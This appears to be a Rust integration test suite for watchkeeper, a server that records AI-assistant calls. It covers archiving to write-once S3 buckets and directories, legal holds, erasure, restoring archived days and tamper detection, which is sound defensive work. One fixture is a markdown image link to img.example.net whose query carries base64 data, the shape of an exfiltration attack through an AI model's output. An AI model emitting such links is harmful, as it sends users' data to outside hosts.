//! The archive on S3, against moto, and what leaves the hot store and comes back.

use std::fs;
use std::io::{Read as _, Write as _};
use std::net::{Shutdown, TcpListener, TcpStream};
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::crash::faketime;
use crate::lifecycle::{ANN, ann_and_bo_with, call};
use crate::moto::Moto;
use crate::support::{SOON, Server, Starting, export, json, root_key, rows, run, verify, watchkeeper};

/// A file with credentials for the server's buckets.
pub(crate) fn credentials(moto: &Moto, dir: &Path) -> PathBuf {
    let credentials = dir.join("credentials");
    let text = format!("[default]\naws_access_key_id = {}\naws_secret_access_key = {}\n", moto.key, moto.secret);
    fs::write(&credentials, text).unwrap();
    fs::set_permissions(&credentials, fs::Permissions::from_mode(0o600)).unwrap();
    credentials
}

/// Configuration of an archive in a bucket, with credentials in a file.
fn in_bucket(moto: &Moto, dir: &Path, bucket: &str, more: &str) -> String {
    let credentials = credentials(moto, dir);
    format!(
        "[archive]\nurl = \"s3://{bucket}/tenant-1\"\n{more}\n[s3]\nendpoint = \"{}\"\ncredentials = \"{}\"\n",
        moto.endpoint,
        credentials.display()
    )
}

/// Moves everything to the archive: an erasure of nobody does.
fn archive_everything(data: &Path) {
    let output = run(&["erase", "--subject", "nobody-at-all"], data);
    assert_eq!(output.status.code(), Some(3), "{}", String::from_utf8_lossy(&output.stderr));
}

fn verify_with(data: &Path, config: &Path) -> (i32, String) {
    let output = watchkeeper().arg("verify").arg(data).arg("--config").arg(config).output().unwrap();
    let text = String::from_utf8_lossy(&output.stdout).into_owned() + &String::from_utf8_lossy(&output.stderr);
    (output.status.code().unwrap(), text)
}

/// The keys of a bucket's objects below `segments/`, with all their versions.
fn segments(moto: &Moto, bucket: &str) -> Vec<(String, String)> {
    let versions: Vec<(String, String)> = serde_json::from_value(moto.boto("versions", &[bucket])).unwrap();
    versions.into_iter().filter(|(key, _)| key.contains("/segments/")).collect()
}

/// A version of an object: its key, its id, the mode of its lock and its legal hold.
type Head = (String, String, [Option<String>; 2]);

fn heads(moto: &Moto, bucket: &str) -> Vec<Head> {
    serde_json::from_value(moto.boto("heads", &[bucket])).unwrap()
}

#[test]
fn the_archive_lives_in_a_bucket_that_is_write_once() {
    let moto = Moto::start();
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let config_path = dir.path().join("watchkeeper.toml");
    moto.boto("bucket", &["plain", "plain"]);
    moto.boto("bucket", &["evidence", "locked"]);

    // A bucket that cannot lock is refused at the start, with the remedy.
    let refused = Starting::spawn(&data, &in_bucket(&moto, dir.path(), "plain", "write_once = true"), &[]).ready();
    let why = refused.err().unwrap();
    assert!(why.contains("versioning") && why.contains("write_once = false"), "{why}");

    let config = in_bucket(&moto, dir.path(), "evidence", "write_once = true\nlock_mode = \"compliance\"");
    let server = ann_and_bo_with(&data, &config);
    archive_everything(&data);
    server.settle();
    assert!(!data.join("archive/objects").exists());
    let before = segments(&moto, "evidence");
    assert!(before.len() >= 2, "{before:?}");
    let kept = json(&["retention", "show", "--segments", "--format", "json"], &data);
    assert_eq!(kept[0]["first"], 0, "{kept}");
    // The journal has let go of what the archive has.
    assert!(!data.join("journal/00000000000000000000.wkj").exists());
    let (code, text) = verify_with(&data, &config_path);
    assert_eq!(code, 0, "{text}");
    let (code, text) = verify(&data);
    assert!(code == 2 && text.contains("--config"), "nobody goes to a bucket because a directory says so: {code} {text}");

    // Who has the bucket's credentials can neither delete nor replace what is locked for 400 days.
    let modes = heads(&moto, "evidence");
    assert!(modes.iter().all(|(_, _, [mode, _])| mode.as_deref() == Some("COMPLIANCE")), "{modes:?}");
    for (key, version) in &before {
        assert_eq!(moto.boto("delete-version", &["evidence", key, version]), "AccessDenied");
        assert_eq!(moto.boto("forge", &["evidence", key]), true);
    }
    let (code, text) = verify_with(&data, &config_path);
    assert_eq!(code, 0, "{text}");
    // What is not locked can be replaced, and is named.
    let manifest = "tenant-1/manifest/00000000000000000001";
    assert_eq!(moto.boto("forge", &["evidence", manifest]), true);
    let (code, text) = verify_with(&data, &config_path);
    assert!(code == 1 && text.contains("manifest/00000000000000000001"), "{code} {text}");
    let forged = moto.boto("newest", &["evidence", manifest]);
    assert_eq!(moto.boto("delete-version", &["evidence", manifest, forged.as_str().unwrap()]), true);
    assert_eq!(verify_with(&data, &config_path).0, 0);

    // A hold on one session is one on the objects that hold it; another person beside it can be erased all the same.
    assert!(run(&["hold", "place", "case-17", "--reason", "letter", "--session", "bo-alone"], &data).status.success());
    let held = |keys: &[(String, String)]| {
        let on =
            |(key, version, [_, hold]): &Head| hold.as_deref() == Some("ON") && keys.contains(&(key.clone(), version.clone()));
        heads(&moto, "evidence").iter().filter(|head| on(head)).count()
    };
    assert_eq!(held(&before), 2);
    let output = run(&["erase", "--subject", ANN, "--format", "json"], &data);
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let erased: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert!(erased["locked"].as_u64().unwrap() >= 2 && erased["refused"].as_object().unwrap().is_empty(), "{erased}");
    let after: Vec<_> = segments(&moto, "evidence").into_iter().filter(|object| !before.contains(object)).collect();
    assert_eq!(held(&after), 2, "the hold passes to what is written anew");
    assert!(run(&["hold", "release", "case-17"], &data).status.success());
    assert_eq!(held(&after), 0);
    server.settle();

    // The locked objects are still there; no key of the keyring opens them, and what opens does not tell of her.
    assert!(run(&["retention", "sweep"], &data).status.success());
    let bundle = dir.path().join("case.tar.gz");
    let exported =
        run(&["evidence", "export", "--session", "bo-alone", "--reason", "case 17", "--out", bundle.to_str().unwrap()], &data);
    assert!(exported.status.success(), "{}", String::from_utf8_lossy(&exported.stderr));
    let bo = server.query("SELECT prompt FROM prompts WHERE user_id = 'bo' ORDER BY seq");
    assert_eq!(bo.len(), 2);
    server.stop();
    let text = readable(&moto, "evidence", &data);
    assert!(text.contains("crane-amber-1001") && text.contains("crane-amber-1002"));
    for gone in ["heron-azure", "ann-alone", "ann.marlow"] {
        assert!(!text.contains(gone), "{gone} can still be read");
    }
    let there = segments(&moto, "evidence");
    assert!(before.iter().all(|object| there.contains(object)));
    let (code, text) = verify_with(&data, &config_path);
    assert_eq!(code, 0, "{text}");

    // The store is built anew from the bucket, by a server and by commands alone.
    fs::remove_dir_all(data.join("store")).unwrap();
    let server = Server::start_with(&data, &config);
    server.settle();
    assert_eq!(server.query("SELECT prompt FROM prompts WHERE user_id = 'bo' ORDER BY seq"), bo);
    server.stop();
    assert_eq!(json(&["hold", "list", "--format", "json"], &data), serde_json::json!([]));

    // Another place is no second history.
    let moved = Starting::spawn(&data, "", &[]).ready().err().unwrap();
    assert!(moved.contains("s3://evidence/tenant-1") && moved.contains("put the configuration back"), "{moved}");
}

/// Decrypts every version of every segment's object that a key of the keyring opens, and gives what the archive reads in them.
fn readable(moto: &Moto, bucket: &str, data: &Path) -> String {
    let dir = server::DataDir::existing(data).unwrap();
    let keyring = server::read_keyring(&dir, &server::RootKeyPlace::new(Some(&root_key())).unwrap()).unwrap();
    let place = server::Config::read(&data.with_file_name("watchkeeper.toml")).unwrap().places().evidence;
    let view = server::lifecycle::cold::archive_of(&dir, Some(&keyring), Some(&place)).unwrap().unwrap();
    let live: Vec<String> = view
        .manifest()
        .segments()
        .flat_map(|segment| [&segment.events, &segment.contents])
        .map(|object| format!("tenant-1/{}", archive::ObjectName::Segment(object.digest)))
        .collect();
    let keys: Vec<_> = keyring
        .live(keys::Purpose::Segment)
        .unwrap()
        .into_iter()
        .map(|(id, _)| archive::SegmentKey::new(*keyring.get(keys::Purpose::Segment, id).unwrap().unwrap().expose()))
        .collect();
    let mut opened = 0;
    let bodies: Vec<(String, String, String)> = serde_json::from_value(moto.boto("bodies", &[bucket])).unwrap();
    for (key, _, hex) in bodies {
        let bytes: Vec<u8> = (0..hex.len()).step_by(2).map(|at| u8::from_str_radix(&hex[at..at + 2], 16).unwrap()).collect();
        if keys.iter().any(|secret| secret.open(&bytes, 1 << 28).is_ok()) {
            assert!(live.contains(&key), "a key opens {key}, which is not in the archive any more");
            opened += 1;
        }
    }
    assert_eq!(opened, live.len());
    let mut text = String::new();
    for segment in view.manifest().segments() {
        for content in view.contents(&segment.span()).unwrap() {
            if let Some(said) = content.text() {
                text.push_str(&said);
            }
        }
        for stored in view.segment(&segment.span()).unwrap() {
            text.push_str(&format!("{:?}", stored.body));
            if let Some(record) = stored.for_reading() {
                text.push_str(&String::from_utf8_lossy(&record.event_json));
            }
        }
    }
    text
}

#[test]
fn a_changed_object_in_a_bucket_is_named_and_an_outage_proves_nothing() {
    let moto = Moto::start();
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    moto.boto("bucket", &["plain", "plain"]);
    let config = in_bucket(&moto, dir.path(), "plain", "");
    let server = ann_and_bo_with(&data, &config);
    archive_everything(&data);
    server.stop();
    let config_path = dir.path().join("watchkeeper.toml");
    assert_eq!(verify_with(&data, &config_path).0, 0);
    let (key, _) = segments(&moto, "plain").remove(0);
    assert_eq!(moto.boto("forge", &["plain", &key]), true);
    let (code, text) = verify_with(&data, &config_path);
    let name = key.trim_start_matches("tenant-1/");
    assert!(code == 1 && text.contains(name) && text.contains("digest"), "{code} {text}");
    // A bucket that does not answer proves nothing either way.
    drop(moto);
    let (code, text) = verify_with(&data, &config_path);
    assert!(code == 2 && !text.contains("TAMPERED"), "{code} {text}");
}

/// Passes connections on while it is told to.
pub(crate) fn proxy(to: &str) -> (String, Arc<AtomicBool>) {
    let to = to.trim_start_matches("http://").to_owned();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = format!("http://{}", listener.local_addr().unwrap());
    let open = Arc::new(AtomicBool::new(true));
    let is_open = open.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming().map_while(Result::ok) {
            let (Ok(server), true) = (TcpStream::connect(&to), is_open.load(Ordering::SeqCst)) else { continue };
            for (mut from, mut to) in [(stream.try_clone().unwrap(), server.try_clone().unwrap()), (server, stream)] {
                let is_open = is_open.clone();
                std::thread::spawn(move || {
                    let mut bytes = [0; 65536];
                    while let Ok(read @ 1..) = from.read(&mut bytes) {
                        if !is_open.load(Ordering::SeqCst) || to.write_all(&bytes[..read]).is_err() {
                            break;
                        }
                    }
                    drop(to.shutdown(Shutdown::Both));
                });
            }
        }
    });
    (address, open)
}

#[test]
fn an_outage_of_the_bucket_ends_and_nothing_is_lost_or_stopped() {
    let moto = Moto::start();
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    moto.boto("bucket", &["outage", "plain"]);
    let (address, open) = proxy(&moto.endpoint);
    let config = in_bucket(&moto, dir.path(), "outage", "after_minutes = 0").replace(&moto.endpoint, &address);
    let server = Server::start_with(&data, &config);
    assert!(export(&server.otlp_http, &call("first", "jo", 0, "before", "yes")));
    let until = |what: &dyn Fn() -> bool| {
        let began = Instant::now();
        while !what() {
            assert!(began.elapsed() < SOON, "{}", std::fs::read_to_string(&server.log).unwrap());
            std::thread::sleep(Duration::from_millis(100));
        }
    };
    let archived = || json(&["retention", "show", "--segments", "--format", "json"], &data).as_array().unwrap().len();
    until(&|| archived() > 0);
    open.store(false, Ordering::SeqCst);
    assert!(export(&server.otlp_http, &call("second", "jo", 1, "meanwhile", "yes")));
    let waits = || {
        json(&["status", "--format", "json"], &data)
            .as_array()
            .unwrap()
            .iter()
            .any(|row| row["what"] == "archive_waits" && row["value"].is_string())
    };
    until(&waits);
    assert_eq!(run(&["status"], &data).status.code(), Some(0), "the recorder goes on");
    let told = "SELECT name FROM admin_events WHERE name = 'archive.unavailable'";
    until(&|| rows(told, &data).len() == 1);
    let before = archived();
    open.store(true, Ordering::SeqCst);
    until(&|| archived() > before && !waits());
    server.stop();
    let (code, text) = verify_with(&data, &dir.path().join("watchkeeper.toml"));
    assert_eq!(code, 0, "{text}");
}

/// Lifts the immutable flags below a directory, so that it can be removed.
struct Flags<'d>(&'d Path);

impl Drop for Flags<'_> {
    fn drop(&mut self) {
        drop(std::process::Command::new("chattr").args(["-R", "-i"]).arg(self.0).status());
    }
}

#[test]
fn a_directory_is_write_once_by_the_immutable_flag() {
    const NAME: &str = "cold::a_directory_is_write_once_by_the_immutable_flag";
    let dir = tempfile::tempdir().unwrap();
    let objects = dir.path().join("worm");
    let _flags = Flags(&objects);
    let data = dir.path().join("data");
    let config = format!("[archive]\nurl = \"{}\"\nwrite_once = true\n", objects.display());
    match Starting::spawn(&data, &config, &[]).ready() {
        Ok(server) => server.stop(),
        Err(why) => {
            assert!(why.contains("CAP_LINUX_IMMUTABLE") && why.contains("write_once = false"), "{why}");
            return crate::volume::skip(NAME, "no immutable flag here");
        }
    }
    let server = ann_and_bo_with(&data, &config);
    archive_everything(&data);
    let locked: Vec<PathBuf> = fs::read_dir(objects.join("segments")).unwrap().map(|entry| entry.unwrap().path()).collect();
    assert!(locked.len() >= 2);
    let output = run(&["erase", "--subject", ANN, "--format", "json"], &data);
    let erased: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert!(erased["locked"].as_u64().unwrap() >= 2, "{erased}");
    server.stop();
    for path in &locked {
        assert!(fs::remove_file(path).is_err() && fs::write(path, "x").is_err(), "{}", path.display());
    }
    let (code, text) = verify_with(&data, &dir.path().join("watchkeeper.toml"));
    assert_eq!(code, 0, "{text}");
    // A lock that somebody took off is found by whoever knows that there must be one; a copy of the objects has none.
    drop(Flags(&objects));
    let (code, text) = verify_with(&data, &dir.path().join("watchkeeper.toml"));
    assert!(code == 1 && text.contains("is locked until"), "{code} {text}");
    assert_eq!(verify(&data).0, 0);
}

#[test]
fn an_hour_of_a_day_that_left_the_hot_store_comes_back() {
    const NAME: &str = "cold::an_hour_of_a_day_that_left_the_hot_store_comes_back";
    let Some(library) = faketime() else { return crate::volume::skip(NAME, "libfaketime is not there (package faketime)") };
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let config = "[retention]\ndefault = \"brief\"\n[[retention.class]]\nname = \"brief\"\nhot_days = 0\n";
    let day = jiff::Timestamp::now() - jiff::SignedDuration::from_hours(72);
    let day = day.strftime("%Y-%m-%d").to_string();
    for (hour, session) in [("09", "nine"), ("12", "noon")] {
        let under = [
            "env".to_owned(),
            "TZ=UTC".to_owned(),
            format!("LD_PRELOAD={}", library.display()),
            format!("FAKETIME=@{day} {hour}:20:00"),
            "FAKETIME_DONT_FAKE_MONOTONIC=1".to_owned(),
        ];
        let server = Starting::spawn(&data, config, &under).ready().unwrap_or_else(|why| panic!("{why}"));
        assert!(export(&server.otlp_http, &call(session, "jo-4711", 1, &format!("what was said at {session}"), "yes")));
        server.settle();
        server.stop();
    }
    let said = |session: &str| rows(&format!("SELECT prompt FROM prompts WHERE session_id = '{session}'"), &data).len();
    assert_eq!((said("nine"), said("noon")), (1, 1));
    let server = Server::start_with(&data, config);
    archive_everything(&data);
    // Whoever writes the data directory has no say in which days stay.
    let planted = data.join("state/restored.json");
    fs::write(&planted, format!("{{\"{day}\":4102444800000000000}}")).unwrap();
    assert!(run(&["retention", "sweep"], &data).status.success());
    let partition: PathBuf = data.join(format!("store/{day}.db"));
    assert!(!partition.exists(), "the day is still hot");
    assert_eq!((said("nine"), said("noon")), (0, 0));

    // Evidence is looked for in the archive, too, and who looked at it stays with it.
    let bundle = dir.path().join("nine.tar.gz");
    let output = run(&["evidence", "export", "--session", "nine", "--reason", "r", "--out", bundle.to_str().unwrap()], &data);
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let judged = |bundle: &Path| {
        let key = data.join("ledger/vkey");
        let output =
            crate::support::watchkeeper().args(["evidence", "verify", "--json"]).arg(bundle).arg("--key").arg(key).output();
        let output = output.unwrap();
        (output.status.code(), serde_json::from_slice::<Value>(&output.stdout).unwrap())
    };
    let (code, report) = judged(&bundle);
    assert!(code == Some(0) && report["records"].as_array().unwrap().len() == 1, "{report}");
    // A query is one of the store, and says what it did not look at.
    let query = "SELECT seq FROM events WHERE name = 'server.start'";
    let out = dir.path().join("starts.tar.gz");
    let output = run(&["evidence", "export", "--query", query, "--reason", "r", "--out", out.to_str().unwrap()], &data);
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let (code, report) = judged(&out);
    assert!(code == Some(3) && report["overall"] == "incomplete", "{report}");
    assert!(report["statement"]["notSearched"].as_u64().unwrap() > 2, "{report}");
    let (from, to) = (format!("{day}T09:00:00Z"), format!("{day}T10:00:00Z"));
    let output = run(&["restore", "--from", &from, "--to", &to], &data);
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    assert!(String::from_utf8_lossy(&output.stdout).contains(&day));
    assert_eq!(said("nine"), 1);
    // It stays for a week, whatever the sweep says, and whatever is written beside it.
    fs::write(&planted, "{}").unwrap();
    assert!(run(&["retention", "sweep"], &data).status.success());
    assert!(partition.exists() && said("nine") == 1);
    server.stop();
    let (code, text) = verify(&data);
    assert_eq!(code, 0, "{text}");
}

#[test]
fn what_a_serious_detection_rests_on_is_copied_to_the_forensic_archive_with_its_session() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let config = format!(
        "[archive.forensic]\nmin_severity = \"high\"\nurl = \"{}\"\n[[retention.class]]\nname = \"brief\"\nhot_days = 1\n",
        dir.path().join("forensic-objects").display()
    );
    let server = Server::start_with(&data, &config);
    let image = "Done. ![x](https://img.example.net/p.png?d=dGhlIGN1c3RvbWVyIGxpc3QgaXMgaGVyZQ)";
    for (number, session, user, said, answer) in [
        (0, "attacked", "mallory", "heron-azure-1 please", "heron-azure-2 it is"),
        (1, "quiet", "bo", "crane-amber-1 please", "crane-amber-2 it is"),
        (2, "attacked", "mallory", "heron-azure-3 and an image", image),
    ] {
        assert!(export(&server.otlp_http, &call(session, user, number, said, answer)));
    }
    let copied = |server: &Server| -> u64 {
        server.settle();
        let kept = json(&["retention", "show", "--segments", "--format", "json"], &data);
        let forensic = kept.as_array().unwrap().iter().filter(|row| row["archive"] == "forensic");
        forensic.inspect(|row| assert_eq!(row["class"], "forensic")).map(|row| row["records"].as_u64().unwrap()).sum()
    };
    let until = |server: &Server, wanted: u64| {
        let began = Instant::now();
        while copied(server) < wanted {
            assert!(began.elapsed() < SOON, "{} of {wanted} copies", copied(server));
            std::thread::sleep(Duration::from_millis(200));
        }
    };
    // The call before, the call, and the detection; nobody else's.
    let detected = |server: &Server, least: u64| {
        let began = Instant::now();
        loop {
            server.settle();
            let found = server.query("SELECT detection_id FROM detections WHERE severity IN ('high', 'critical')").len() as u64;
            if found >= least {
                return found;
            }
            assert!(began.elapsed() < SOON, "{found} of {least} detections");
            std::thread::sleep(Duration::from_millis(100));
        }
    };
    let detections = detected(&server, 1);
    until(&server, 2 + detections);
    assert_eq!(copied(&server), 2 + detections);
    let show = |out: &str| {
        let bundle = dir.path().join(out);
        let arguments = ["evidence", "export", "--forensic", "0-1000", "--reason", "case 9", "--out", bundle.to_str().unwrap()];
        let exported = run(&arguments, &data);
        assert!(exported.status.success(), "{}", String::from_utf8_lossy(&exported.stderr));
        let vkey = data.join("ledger/vkey");
        let shown = watchkeeper().args(["evidence", "show"]).arg(&bundle).arg("--key").arg(vkey).output().unwrap();
        assert_eq!(shown.status.code(), Some(0), "{}", String::from_utf8_lossy(&shown.stdout));
        let files = dir.path().join(format!("{out}.d"));
        fs::create_dir(&files).unwrap();
        let tar = std::process::Command::new("tar").arg("-xzf").arg(&bundle).arg("-C").arg(&files).status().unwrap();
        assert!(tar.success());
        let grep = |text: &str| std::process::Command::new("grep").args(["-rq", text]).arg(&files).status().unwrap().success();
        (grep("heron-azure-1"), grep("heron-azure-3"), grep("crane-amber-1"))
    };
    assert_eq!(show("before.tar.gz"), (true, true, false));
    // Whoever reads it leaves a record of that.
    assert_eq!(rows("SELECT name FROM admin_events WHERE name = 'evidence.export'", &data).len(), 1);
    // Its keys are others than those of the archive of evidence.
    assert!(!data.join("forensic/objects").exists() && dir.path().join("forensic-objects/segments").exists());
    server.stop();
    let verified = |server_config: bool| {
        if server_config { verify_with(&data, &dir.path().join("watchkeeper.toml")) } else { verify(&data) }
    };
    for with_config in [false, true] {
        let (code, text) = verified(with_config);
        assert!(code == 0 && text.contains("forensic archive:"), "{text}");
    }

    // The session goes on after a restart: it is still followed, and what was copied is not copied again.
    let server = Server::start_with(&data, &config);
    assert!(export(
        &server.otlp_http,
        &call("attacked", "mallory", 3, "heron-azure-4 too", &image.replace("d=", "e=bW9yZSBvZiBpdCB"))
    ));
    let more = detected(&server, detections + 1);
    until(&server, 3 + more);
    assert_eq!(copied(&server), 3 + more);

    // A hold covers copies, too; an erasure goes through them.
    assert!(run(&["hold", "place", "case-9", "--reason", "letter", "--session", "attacked"], &data).status.success());
    assert_eq!(run(&["erase", "--subject", "mallory"], &data).status.code(), Some(1));
    assert!(run(&["hold", "release", "case-9"], &data).status.success());
    let erased = run(&["erase", "--subject", "mallory"], &data);
    assert!(erased.status.success(), "{}{}", String::from_utf8_lossy(&erased.stdout), String::from_utf8_lossy(&erased.stderr));
    server.settle();
    server.stop();
    let (code, text) = verify(&data);
    assert_eq!(code, 0, "{text}");
    let server = Server::start_with(&data, &config);
    server.settle();
    let bundle = dir.path().join("after.tar.gz");
    let arguments = ["evidence", "export", "--forensic", "0-1000", "--reason", "case 9", "--out", bundle.to_str().unwrap()];
    let exported = run(&arguments, &data);
    assert!(exported.status.success(), "{}", String::from_utf8_lossy(&exported.stderr));
    let tar = std::process::Command::new("tar").arg("-xzOf").arg(&bundle).output().unwrap();
    assert!(!String::from_utf8_lossy(&tar.stdout).contains("heron-azure"), "a copy outlived the erasure");
    server.stop();

    // A copy that was changed is found.
    let object = fs::read_dir(dir.path().join("forensic-objects/segments")).unwrap().next().unwrap().unwrap().path();
    fs::set_permissions(&object, fs::Permissions::from_mode(0o600)).unwrap();
    let mut bytes = fs::read(&object).unwrap();
    *bytes.last_mut().unwrap() ^= 1;
    fs::write(&object, bytes).unwrap();
    let (code, text) = verify(&data);
    assert!(code == 1 && text.contains("TAMPERED: forensic"), "{code} {text}");
}
